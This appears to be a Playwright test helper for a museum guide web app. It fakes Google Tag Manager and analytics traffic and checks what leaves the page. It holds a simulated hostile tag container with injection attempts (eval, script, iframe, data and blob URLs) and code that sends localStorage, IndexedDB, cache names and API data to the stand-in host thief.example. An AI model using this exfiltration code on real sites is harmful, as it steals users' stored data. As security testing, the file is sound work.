import type { BrowserContext, Page } from '@playwright/test';

export const GTM_SCRIPT = 'https://www.googletagmanager.com/gtm.js';
export const COLLECT = 'https://www.google-analytics.com/g/collect';

/**
 * What Google's scripts do, as far as a phone can tell: they read the commands of the page, set cookies, report each new
 * command, and once more while the page closes.
 */
export const COUNTING_SCRIPT = `{
  const report = (what) => navigator.sendBeacon('${COLLECT}?tid=STORY&en=' + encodeURIComponent(what));
  document.cookie = '_ga=GA1.1.1.1; path=/; max-age=99999';
  document.cookie = '_ga_STORY12345=GS1.1.1; path=/; max-age=99999';
  localStorage.setItem('_gcl_ls', '1');
  const nameOf = (command) => command.event ?? command[1] ?? command[0];
  const layer = window.dataLayer;
  for (const command of layer.slice()) report(nameOf(command));
  const push = layer.push.bind(layer);
  layer.push = (...commands) => { commands.forEach((command) => report(nameOf(command))); return push(...commands); };
  addEventListener('pagehide', () => { document.cookie = '_ga=GA1.1.2.2; path=/'; report('user_engagement'); });
  window.counting = (window.counting ?? 0) + 1;
}`;

/** Code as the holder of a container writes it: it reads what belongs to another museum, and sends it away. */
const THEFT = `
  window.executed.push('code');
  const steal = (what) => { navigator.sendBeacon('https://thief.example/?stolen=' + what); };
  steal(JSON.stringify(localStorage));
  indexedDB.databases().then((all) => steal(JSON.stringify(all)));
  caches.keys().then((all) => steal(JSON.stringify(all)));
  fetch('/api/venues/1/current.json').then((answer) => answer.text()).then(steal);
`;

/**
 * A container whose holder is hostile, as Google's file carries it out: custom HTML becomes elements of the page, custom
 * JavaScript is compiled, other scripts are loaded. Google's own file is code of this origin, and only notes the outcome.
 */
export const HOSTILE_CONTAINER = `{
  window.executed ??= [];
  window.refused ??= [];
  const theft = ${JSON.stringify(THEFT)};
  const tries = {
    eval: () => (0, eval)(theft),
    Function: () => new Function(theft)(),
    setTimeout: () => { if (!setTimeout(theft, 0)) throw new Error('refused'); },
  };
  for (const [name, run] of Object.entries(tries)) { try { run(); } catch { window.refused.push(name); } }
  const element = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
  element('script', { text: theft });
  element('script', { text: theft, type: 'module' });
  element('script', { src: 'https://thief.example/steal.js' });
  element('script', { src: 'data:text/javascript,' + encodeURIComponent(theft) });
  element('script', { src: URL.createObjectURL(new Blob([theft], { type: 'text/javascript' })) });
  element('iframe', { srcdoc: '<script>parent.executed.push("frame")</' + 'script>', hidden: true });
  element('iframe', { src: 'javascript:parent.executed.push("address")', hidden: true });
  element('iframe', { src: 'https://thief.example/frame', hidden: true });
  element('div', { innerHTML: '<img src="/nothing.png" alt="" onerror="window.executed.push(1)">' });
  element('img', { src: 'https://thief.example/?stolen=' + encodeURIComponent(localStorage['cicerone.of-another-museum']) });
  navigator.sendBeacon('https://thief.example/?stolen=beacon');
  fetch('https://thief.example/?stolen=fetch').catch(() => {});
  try { new WebSocket('wss://thief.example/stolen'); } catch {}
  window.tried = 'everything';
}`;

/**
 * Answers for every host but the guide's own, on this machine: nothing leaves it. The worker's requests are seen, too.
 *
 * @returns every request to another host, from now on
 */
export async function answerForGoogle(context: BrowserContext, own: string, script = COUNTING_SCRIPT) {
  const asked: string[] = [];
  const isElsewhere = (url: URL) => url.origin !== own && url.protocol.startsWith('http');
  context.on('request', (request) => {
    if (isElsewhere(new URL(request.url()))) asked.push(request.url());
  });
  // The browser reports a request that the policy of the page refuses, too, and it never leaves the page.
  context.on('requestfailed', (request) => {
    const at = asked.indexOf(request.url());
    if (at >= 0 && request.failure()?.errorText === 'csp') asked.splice(at, 1);
  });
  await context.route(isElsewhere, (route) => {
    const isScript = route.request().resourceType() === 'script';
    return route.fulfill({ contentType: isScript ? 'text/javascript' : 'text/plain', body: isScript ? script : '' });
  });
  return asked;
}

/** The hosts of these requests, each once. */
export function hostsOf(asked: readonly string[]): string[] {
  return [...new Set(asked.map((url) => new URL(url).host))].sort();
}

/** The expression for everything that Google has stored in a page's browser, by name. */
export const STORED_BY_GOOGLE = `[...document.cookie.split('; ').map((cookie) => cookie.split('=')[0]),
  ...Object.keys(localStorage)].filter((name) => name.startsWith('_g'))`;

/** What Google has stored in this page's browser. */
export const storedByGoogle = (page: Page): Promise<string[]> => page.evaluate(STORED_BY_GOOGLE);
